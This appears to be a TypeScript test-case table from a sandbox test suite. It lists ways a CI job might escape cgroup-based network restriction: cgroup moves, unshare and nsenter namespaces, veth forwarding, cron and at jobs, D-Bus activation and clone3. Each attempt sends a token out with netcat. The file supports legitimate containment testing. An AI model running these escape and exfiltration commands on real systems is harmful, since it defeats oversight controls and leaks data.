import type { Row } from '../case.ts'
import { python } from './script.ts'

const twin = python('tcp(WHERE4)')
const by = 'connect: the scope is a cgroup, whatever the namespaces'
const hierarchy = `H=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts); mine=$(sed -n 's/^0:://p' /proc/self/cgroup)`
const hierarchyOutside = String.raw`H=$(awk "\$3 == \"cgroup2\" { print \$2; exit }" /proc/self/mounts)`
const send = 'echo "$T" | nc -N -w 3 $D4 8080'

const moved = {
  result: 'told',
  why: 'root may move any process; at T0 nothing can prevent it. It is told as `agent-tampered` (critical) and ended at once, but not before a packet may have gone',
  race: true,
  advice: 'run the command with `--user`; tier T2 prevents it',
} as const

export const namespaces: Row = {
  row: 18,
  title: 'Other cgroups and namespaces',
  cases: [
    {
      id: 'cgroup-procs',
      technique: 'writing itself into another cgroup’s cgroup.procs',
      as: ['user'],
      attempt: `${hierarchy}; for to in "$H" "$H$mine/.." "$H/$(ls "$H" | head -1)"; do echo $$ 2>/dev/null >"$to/cgroup.procs"; done; ${send}`,
      twin,
      by: 'the kernel: permission denied',
    },
    {
      id: 'cgroup-child',
      technique: 'a cgroup of its own below the scope',
      attempt: `${hierarchy}; mkdir "$H$mine/inner.$T"; (echo $BASHPID >"$H$mine/inner.$T/cgroup.procs"; ${send}); status=$?; rmdir "$H$mine/inner.$T"; exit $status`,
      twin,
      by: 'connect: what is below the scope is in it',
    },
    {
      id: 'cgroup-namespace',
      technique: 'own user and cgroup namespace, hierarchy mounted anew',
      attempt: `unshare -UrCm bash -c 'mkdir -p $SHARED/cg.$T && mount -t cgroup2 none $SHARED/cg.$T && echo $$ >$SHARED/cg.$T/cgroup.procs; echo $$ >$SHARED/cg.$T/../cgroup.procs; ${send}'`,
      twin,
      by,
    },
    {
      id: 'network-namespace',
      technique: 'own user and network namespace (unshare -Urn)',
      attempt: `unshare -Urn bash -c 'ip link set lo up; ${send}'`,
      twin,
      by,
      cannot: 'a fresh network namespace leads nowhere',
    },
    {
      id: 'network-namespace-raw',
      technique: 'raw socket in an own user and network namespace',
      attempt: `unshare -Urn bash -c 'ip link set lo up; $ACT raw $D4 8080' | tee /dev/stderr | grep -q '^ok'`,
      twin,
      by: 'socket: no raw socket',
      cannot: 'a fresh network namespace leads nowhere',
    },
    {
      id: 'user-namespace',
      technique: 'own user namespace (unshare -Ur)',
      attempt: `unshare -Ur bash -c '${send}'`,
      twin: `unshare -Ur bash -c '${send}'`,
      by,
    },
    {
      id: 'pid-namespace',
      technique: 'own pid and mount namespace',
      attempt: `unshare -Urpmf --mount-proc bash -c '${send}'`,
      twin: `unshare -Urpmf --mount-proc bash -c '${send}'`,
      by,
    },
    {
      id: 'setns-network',
      technique: 'entering a network namespace that leads outside (setns)',
      as: ['root'],
      outside: `echo $$ >"$SHARED/ns.$T"; echo ready >&2; exec sleep 600`,
      attempt: `nsenter --net=/proc/$(cat $SHARED/ns.$T)/ns/net bash -c '${send}'`,
      twin,
      by,
    },
    {
      id: 'veth-forwarded',
      technique: 'new network namespace, joined to the machine by veth and forwarded',
      as: ['root'],
      attempt: `ip netns add zqns && ip link add zqh type veth peer name eth0 netns zqns && ip addr add 192.0.2.129/30 dev zqh && ip link set zqh up &&
ip -n zqns addr add 192.0.2.130/30 dev eth0 && ip -n zqns link set eth0 up && ip -n zqns route add default via 192.0.2.129 && echo 1 >/proc/sys/net/ipv4/ip_forward
nsenter --net=/run/netns/zqns $ACT udp-sendto $D4 8080; status=$?; ip netns del zqns; exit 9`,
      twin,
      by: 'connect: `EPERM`, in whatever namespace the socket is',
    },
    {
      id: 'at-and-cron',
      impossible: true,
      technique: 'job for at or cron, which run it outside',
      attempt: `command -v at >/dev/null && echo '${send}' | at now; (crontab -l 2>/dev/null; echo "* * * * * ${send.replaceAll('"', '')}") | crontab - ; exit 9`,
      twin,
      cannot:
        'these machines have neither; a unit of systemd stands for them in the virtual machine',
      by: '– (see What does not hold: services of the machine)',
      silent: 'nobody to ask',
    },
    {
      id: 'dbus-activation',
      technique: 'service started by D-Bus, outside of the scope',
      outside: `mkdir -p $SHARED/bus.$T/services; cat >$SHARED/bus.$T/services/x.service <<END
[D-BUS Service]
Name=org.example.Drop
Exec=/bin/bash -c 'cat $SHARED/bus.$T/data | nc -N -w 3 $D4 8080'
END
cat >$SHARED/bus.$T/conf <<END
<busconfig><type>session</type><listen>unix:path=$SHARED/bus.$T/socket</listen><servicedir>$SHARED/bus.$T/services</servicedir>
<policy context="default"><allow send_destination="*" eavesdrop="true"/><allow eavesdrop="true"/><allow own="*"/><allow user="*"/></policy></busconfig>
END
chmod -R a+rwX $SHARED/bus.$T
dbus-daemon --config-file=$SHARED/bus.$T/conf --nofork & sleep 0.5; echo ready >&2; wait`,
      attempt: `echo "$T" >$SHARED/bus.$T/data; timeout 2 dbus-send --bus=unix:path=$SHARED/bus.$T/socket --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.StartServiceByName string:org.example.Drop uint32:0; sleep 1`,
      twin,
      by: '–',
      silent: 'a unix socket is no network',
      user: {
        result: 'not-held',
        why: 'the bus starts the service, which is no child of the job',
        advice:
          'runner images without services that start what a stranger names; no user bus in the job’s environment',
      },
      root: {
        result: 'not-held',
        why: 'the bus starts the service, which is no child of the job',
        advice: 'as for the ordinary user',
      },
    },
    {
      id: 'cgroup-move-root',
      technique: 'root moves itself to another cgroup',
      as: ['root'],
      attempt: `export T D4; nsenter --cgroup=/proc/$(cat $SHARED/agent)/ns/cgroup --mount=/proc/$(cat $SHARED/agent)/ns/mnt --wd=. bash -c '${hierarchyOutside} && mkdir $H/zq.$$ && echo $$ >$H/zq.$$/cgroup.procs && ${send}'`,
      twin,
      by: 'told',
      root: moved,
    },
    {
      id: 'clone-into-cgroup',
      technique: 'root starts a process in another cgroup (clone3, CLONE_INTO_CGROUP)',
      as: ['root'],
      attempt: python(`
libc = ctypes.CDLL(None, use_errno=True)
agent = open(os.environ['SHARED'] + '/agent').read().strip()
for kind in ('cgroup', 'mnt'):
    if libc.setns(os.open('/proc/%s/ns/%s' % (agent, kind), os.O_RDONLY), 0): raise OSError(ctypes.get_errno(), 'setns')
base = next(line.split()[1] for line in open('/proc/self/mounts') if line.split()[2] == 'cgroup2')
folder = base + '/zq.%d' % os.getpid()
os.mkdir(folder)
fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
arguments = struct.pack('QQQQQQQQQQQ', 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd)
child = libc.syscall(435, arguments, 88)
if child == 0:
    try: tcp(WHERE4)
    except OSError: os._exit(9)
    os._exit(0)
code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
os.rmdir(folder)
sys.exit(code)`),
      twin,
      by: 'told',
      root: moved,
    },
  ],
}
